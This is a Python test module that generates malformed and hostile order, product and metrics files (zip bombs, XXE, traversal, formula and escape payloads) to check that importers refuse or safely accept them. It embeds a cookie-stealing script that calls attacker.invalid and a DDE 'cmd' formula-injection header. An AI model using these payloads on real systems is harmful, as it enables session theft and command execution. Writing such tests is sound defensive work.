"""A corpus of malformed and hostile order, product and metrics files, written into a folder at test time.

Nothing here is committed as a file: the zip bombs inflate to gigabytes from a few megabytes and the 5 MB lines are
5 MB, so each case is a recipe (``Case.build``) that returns the file's bytes. ``write_corpus(folder)`` writes them
all. XLSX workbooks are assembled by hand (``zip_bytes``) because the hostile ones are exactly what a spreadsheet
library refuses to write: lying sizes, entity declarations, ``..`` member names, raw deflate streams glued together.

Each case names the importers it is fed to and what each must do with it:
- ``REFUSE``: exit 2, one line on stderr naming the file, nothing written;
- ``ACCEPT``: the file is usable and hostile only in its text (formula payloads, RTL, emoji): rows are imported as
  plain text, never evaluated, and ``--dry-run`` still writes nothing.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import hostile_workbooks as workbooks
from hostile_files import (
    KINDS,
    METRICS_HEADER,
    ORDER_HEADER,
    PRODUCT_HEADER,
    RTL_EMOJI,
    TEXT_PAYLOADS,
    csv_bytes,
    metrics_rows,
    order_rows,
    product_rows,
    sheet_xml,
    xlsx,
)
from hostile_workbooks import TRAVERSAL_TARGET

__all__ = ["ACCEPT", "KINDS", "REFUSE", "TRAVERSAL_TARGET", "Case", "cases", "write_corpus"]

REFUSE, ACCEPT = "refuse", "accept"


@dataclass(frozen=True)
class Case:
    name: str  # the file's name in the corpus folder
    build: Callable[[], bytes]
    expect: dict[str, str]  # importer kind → REFUSE or ACCEPT
    what: str
    args: tuple[str, ...] = ()  # extra CLI arguments (e.g. a wrong --encoding)
    payloads: tuple[str, ...] = field(default=())  # texts an ACCEPT case must store verbatim
    absent: tuple[str, ...] = field(default=())  # texts no run may store anywhere (formulas, link targets)


def _unclosed_quote() -> bytes:
    rows = csv_bytes(product_rows(("ok",)))
    return rows + b'"never closed,HX-9,1,1\r\nnext,HX-10,1,1\r\n'


def _binary(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


def _columns_10000(kind: str) -> bytes:
    """10,000 columns: the importer's own columns at the end, after 9,996 others."""
    header = (PRODUCT_HEADER, ORDER_HEADER, METRICS_HEADER)[("products", "orders", "metrics").index(kind)]
    filler = [f"extra {i}" for i in range(10_000 - len(header))]
    rows = {"products": product_rows(("万列帽",)), "orders": order_rows(("wide",)), "metrics": metrics_rows(("7",))}
    body = rows[kind]
    return csv_bytes([filler + list(body[0])] + [[""] * len(filler) + list(row) for row in body[1:]])


def _five_mb_cell() -> bytes:
    return csv_bytes([PRODUCT_HEADER, ("A" * 5_000_000, "HX-1", "1", "1")])


def _five_mb_line_many_cells(kind: str) -> bytes:
    """A 5 MB line of 2.5 million one-character cells under an ordinary header."""
    header = {"products": PRODUCT_HEADER, "orders": ORDER_HEADER, "metrics": METRICS_HEADER}[kind]
    return (",".join(header) + "\r\n" + "a," * 2_500_000 + "\r\n").encode()


def _html() -> bytes:
    return (
        "<!DOCTYPE html><html><head><meta charset='utf-8'><title>订单导出</title></head><body><table>"
        "<tr><th>商品名称</th><th>商家编码</th><th>售价</th><th>库存</th></tr>"
        "<tr><td>帽子</td><td>HX-1</td><td>9</td><td>1</td></tr></table>"
        "<script>fetch('http://attacker.invalid/'+document.cookie)</script></body></html>\n"
    ).encode()


def _damaged_ids_orders() -> bytes:
    rows = [ORDER_HEADER]
    for i, order_id in enumerate(("6.91735E+18", "6917350000000000000", "", "9" * 400, "-1", "\u0000", "=1+1")):
        rows.append((order_id, f"b{i}", "s", "Hat", "", "Home", "10/07/2025 19:05", "Completed"))
        rows[-1] = rows[-1] + ("$1.00", "1", "$0", "$1.00", "")
    return csv_bytes(rows).replace(b"\x00", b"")


def _damaged_ids_products() -> bytes:
    rows = [PRODUCT_HEADER]
    for i, sku in enumerate(("6.91735E+18", "1.2E+15", "", "   ", "\t", "\r")):
        rows.append((f"Hat {i}", sku, "1", "1"))
    return csv_bytes(rows)


def _hostile_numbers_products() -> bytes:
    rows = [PRODUCT_HEADER]
    for i, price in enumerate(("1e309", "9" * 400, "NaN", "Infinity", "-0.0001", "1_000", "0x10", "١٢٣", "1,2,3")):
        rows.append((f"Number hat {i}", f"HX-N{i}", price, "9" * 30 if i % 2 else "-5"))
    return csv_bytes(rows)


def _hostile_dates_orders() -> bytes:
    rows = [ORDER_HEADER]
    dates = ("9999-12-31 99:99", "0000-00-00 00:00", "02/30/2026 10:00", "13/45/2025 25:61", "1e309", "")
    for i, when in enumerate(dates):
        rows.append((f"WN-8{i:04d}", "b", "s", "Hat", "", "Home", when, "Completed", "$1e309", "-4", "NaN", "¥∞", ""))
    return csv_bytes(rows)


def _hostile_metrics_values() -> bytes:
    rows = [METRICS_HEADER]
    for minute, value in enumerate(("1e309", "NaN", "-Infinity", "9" * 400, "=1+1", "@SUM(A1)")):
        rows.append((f"2026-01-05 20:{minute:02d}", value, value, value))
    rows.append(("9999-99-99 99:99", "1", "1", "1"))
    rows.append(("2026-01-05 20:10", "5", "1.00", "1"))
    return csv_bytes(rows)


def _gbk_with_utf8_flag(kind: str) -> tuple[bytes, tuple[str, ...]]:
    body = {"products": product_rows(("防晒衣",)), "orders": order_rows(("买家",)), "metrics": metrics_rows(("4",))}
    return csv_bytes(body[kind], encoding="gb18030"), ("--encoding", "utf-8")


def _nul_bytes(kind: str) -> bytes:
    body = {"products": product_rows(("帽子",)), "orders": order_rows(("nul",)), "metrics": metrics_rows(("4",))}
    return csv_bytes(body[kind]).replace(b"1", b"1\x00", 1)


def _formula_text(kind: str) -> bytes:
    if kind == "products":
        return csv_bytes(product_rows(TEXT_PAYLOADS))
    return csv_bytes(order_rows(TEXT_PAYLOADS))


def _rtl_emoji(kind: str) -> bytes:
    if kind == "products":
        return csv_bytes(product_rows(RTL_EMOJI))
    return csv_bytes(order_rows(RTL_EMOJI))


def _formula_header(kind: str) -> bytes:
    header = ("=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1")
    body = {"products": product_rows(("x",)), "orders": order_rows(("x",)), "metrics": metrics_rows(("4",))}
    return csv_bytes([header, *body[kind][1:]])


def _phantom_columns(kind: str) -> bytes:
    """20,000 one-cell rows under a ``<dimension>`` of A1:XFD20001: every row claims Excel's 16,384 columns."""
    header = {"products": PRODUCT_HEADER, "orders": ORDER_HEADER, "metrics": METRICS_HEADER}[kind]
    rows = [list(header)] + [["x"] for _ in range(20_000)]
    return xlsx(sheet_xml(rows, dimension="A1:XFD20001"))


ESCAPES = "\x1b[2J\x1b]2;pwned\x07\x1b[31m\r"  # clear the screen, retitle the terminal, turn red, overwrite


def _terminal_escapes(kind: str) -> bytes:
    """A good row, then a row whose number cell is terminal escape sequences: the CLI quotes that cell in its
    problem line, and must show the escapes rather than send them to the terminal."""
    if kind == "products":
        return csv_bytes([*product_rows(("帽子",)), ("围巾", "HX-E", ESCAPES, "1")])
    if kind == "orders":
        rows = order_rows(("good", "bad"))
        rows[2] = (*rows[2][:9], ESCAPES, *rows[2][10:])  # the quantity
        return csv_bytes(rows)
    return csv_bytes([*metrics_rows(("40", "41")), ("2026-01-05 20:02", ESCAPES, "1.00", "1")])


def _all(expect: str) -> dict[str, str]:
    return dict.fromkeys(KINDS, expect)


def _per_kind(name: str, build: Callable[[str], bytes], what: str, expect: dict[str, str]) -> list[Case]:
    stem, suffix = name.rsplit(".", 1)
    return [
        Case(f"{stem}_{kind}.{suffix}", (lambda k=kind: build(k)), {kind: outcome}, what)
        for kind, outcome in expect.items()
    ]


def cases() -> list[Case]:
    """Every corpus file, in a fixed order (the seeds are fixed too)."""
    refuse, accept = _all(REFUSE), _all(ACCEPT)
    listed = [
        Case("empty.csv", lambda: b"", refuse, "zero bytes"),
        Case("blank_lines.csv", lambda: b"\r\n \n\t\n\r\n", refuse, "only blank lines"),
        Case("bom_only.csv", lambda: b"\xef\xbb\xbf", refuse, "a UTF-8 BOM and nothing else"),
        Case("binary_noise.csv", lambda: _binary(65536, 1), refuse, "64 KiB of random bytes"),
        Case("binary_noise.xlsx", lambda: b"PK\x03\x04" + _binary(4096, 2), refuse, "zip magic, random body"),
        Case("png_renamed.csv", lambda: b"\x89PNG\r\n\x1a\n" + _binary(2048, 3), refuse, "a PNG named .csv"),
        Case("pdf_renamed.csv", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", refuse, "a PDF"),
        Case("html_as.csv", _html, refuse, "a CSV that is really an HTML page (with a script)"),
        Case("legacy.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024), refuse, "old OLE .xls"),
        Case("truncated.xlsx", workbooks.truncated_xlsx, refuse, "an XLSX cut in half"),
        Case("broken_sheet.xlsx", workbooks.broken_sheet_xml, refuse, "sheet XML that stops mid-element"),
        Case("bad_crc.xlsx", workbooks.bad_crc, refuse, "a member whose CRC does not match"),
        Case("zip_bomb.xlsx", workbooks.sheet_bomb, refuse, "2 MB zip, sheet inflates to 2 GiB"),
        Case("zip_bomb_lying.xlsx", workbooks.lying_bomb, refuse, "the 2 GiB sheet declared as 4 kB"),
        Case("strings_bomb.xlsx", workbooks.strings_bomb, refuse, "sharedStrings inflates to 1 GiB (68 M strings)"),
        Case("one_huge_string.xlsx", workbooks.one_huge_string, refuse, "one 300 MiB shared string"),
        Case("billion_laughs.xlsx", workbooks.billion_laughs, refuse, "entity expansion in the sheet XML"),
        Case(
            "billion_laughs_strings.xlsx", workbooks.billion_laughs_strings, refuse, "entity expansion in sharedStrings"
        ),
        Case("external_entity.xlsx", workbooks.external_entity, refuse, "XXE: SYSTEM entities to a file and a URL"),
        Case("path_traversal.xlsx", workbooks.path_traversal, refuse, "sheet target and members outside the archive"),
        Case("unclosed_quote.csv", _unclosed_quote, refuse, "a quote that never closes"),
        Case("five_mb_cell.csv", _five_mb_cell, refuse, "one 5 MB cell (over the CSV field limit)"),
        Case("replacement_chars.csv", lambda: csv_bytes(product_rows(("帽\ufffd子",))), refuse, "U+FFFD in text"),
        Case("utf16_odd_length.csv", lambda: "商品名称,商家编码\n".encode("utf-16-le") + b"\x00", refuse, "odd UTF-16"),
        Case("header_only.csv", lambda: csv_bytes([PRODUCT_HEADER]), {"products": REFUSE}, "a header, no rows"),
        Case(
            "many_blank_rows.csv",
            lambda: csv_bytes([PRODUCT_HEADER]) + b",,,\r\n" * 200_000,
            {"products": REFUSE, "orders": REFUSE},
            "a header and 200,000 empty rows",
        ),
        Case("damaged_ids.csv", _damaged_ids_orders, {"orders": REFUSE}, "Excel-mangled, empty, 400-digit IDs"),
        Case("damaged_skus.csv", _damaged_ids_products, {"products": REFUSE}, "Excel-mangled and blank SKUs"),
        Case("hostile_numbers.csv", _hostile_numbers_products, {"products": REFUSE}, "1e309, NaN, 400 digits"),
        Case("hostile_dates.csv", _hostile_dates_orders, {"orders": REFUSE}, "impossible dates and amounts"),
        Case("hostile_values.csv", _hostile_metrics_values, {"metrics": ACCEPT}, "NaN/∞/payloads; one good row"),
        Case(
            "lying_dimension.xlsx",
            workbooks.lying_dimension,
            {"products": ACCEPT},
            "dimension A1:XFD1048576",
            payloads=("Dimension hat",),
        ),
        Case(
            "far_cell.xlsx",
            workbooks.far_cell,
            {"products": ACCEPT},
            "a cell at XFD1048576",
            payloads=("Far cell hat",),
        ),
        Case(
            "formulas.xlsx",
            workbooks.formulas_xlsx,
            {"products": ACCEPT},
            "formula cells, cached and uncached: the cached values are read, nothing is evaluated",
            payloads=("Sunhat", "Cap"),
            absent=("cmd|", "calc", '"Sun"&'),
        ),
        Case(
            "external_link.xlsx",
            workbooks.external_link_xlsx,
            {"products": ACCEPT},
            "links to a URL and a UNC share: cached values only, never fetched",
            payloads=("Linked hat",),
            absent=("127.0.0.1", "attacker.invalid", "[1]S!A1", "prices.xlsx"),
        ),
        Case(
            "traversal_members.xlsx",
            workbooks.path_traversal_extra,
            {"products": ACCEPT},
            "extra '..' zip members",
            payloads=("穿越测试",),
        ),
        Case(
            "formula_text_products.csv",
            lambda: _formula_text("products"),
            {"products": ACCEPT},
            "formula payloads as titles",
            payloads=TEXT_PAYLOADS,
        ),
        Case(
            "formula_text_orders.csv",
            lambda: _formula_text("orders"),
            {"orders": ACCEPT},
            "formula payloads as buyers and items",
            payloads=TEXT_PAYLOADS,
        ),
        Case(
            "rtl_emoji_products.csv",
            lambda: _rtl_emoji("products"),
            {"products": ACCEPT},
            "RTL override, Hebrew, Arabic, ZWJ emoji, astral CJK",
            payloads=RTL_EMOJI,
        ),
        Case(
            "rtl_emoji_orders.csv",
            lambda: _rtl_emoji("orders"),
            {"orders": ACCEPT},
            "the same as buyer names",
            payloads=RTL_EMOJI,
        ),
        Case(
            "wrong_encoding_flag.csv",
            lambda: _gbk_with_utf8_flag("products")[0],
            {"products": REFUSE},
            "GB18030 bytes read with --encoding utf-8",
            args=("--encoding", "utf-8"),
        ),
        Case(
            "unknown_encoding_flag.csv",
            lambda: csv_bytes(product_rows(("帽",))),
            {"products": REFUSE, "orders": REFUSE, "metrics": REFUSE},
            "--encoding klingon",
            args=("--encoding", "klingon"),
        ),
    ]
    listed += _per_kind("columns_10000.csv", _columns_10000, "10,000 columns", _all(ACCEPT))
    listed += _per_kind("five_mb_line.csv", _five_mb_line_many_cells, "a 5 MB line of 2.5 M cells", refuse)
    listed += _per_kind("nul_bytes.csv", _nul_bytes, "a NUL byte inside a cell", refuse)
    listed += _per_kind("formula_header.csv", _formula_header, "formula payloads as the header", refuse)
    listed += _per_kind("phantom_columns.xlsx", _phantom_columns, "20,000 rows padded to 16,384 columns", refuse)
    listed += [
        Case(case.name, case.build, case.expect, case.what, absent=("\x1b",))
        for case in _per_kind("terminal_escapes.csv", _terminal_escapes, "ESC sequences in a number cell", accept)
    ]
    return listed


def write_corpus(folder: Path) -> list[tuple[Case, Path]]:
    """Write every case into ``folder``; returns (case, path) pairs."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for case in cases():
        path = folder / case.name
        path.write_bytes(case.build())
        written.append((case, path))
    return written
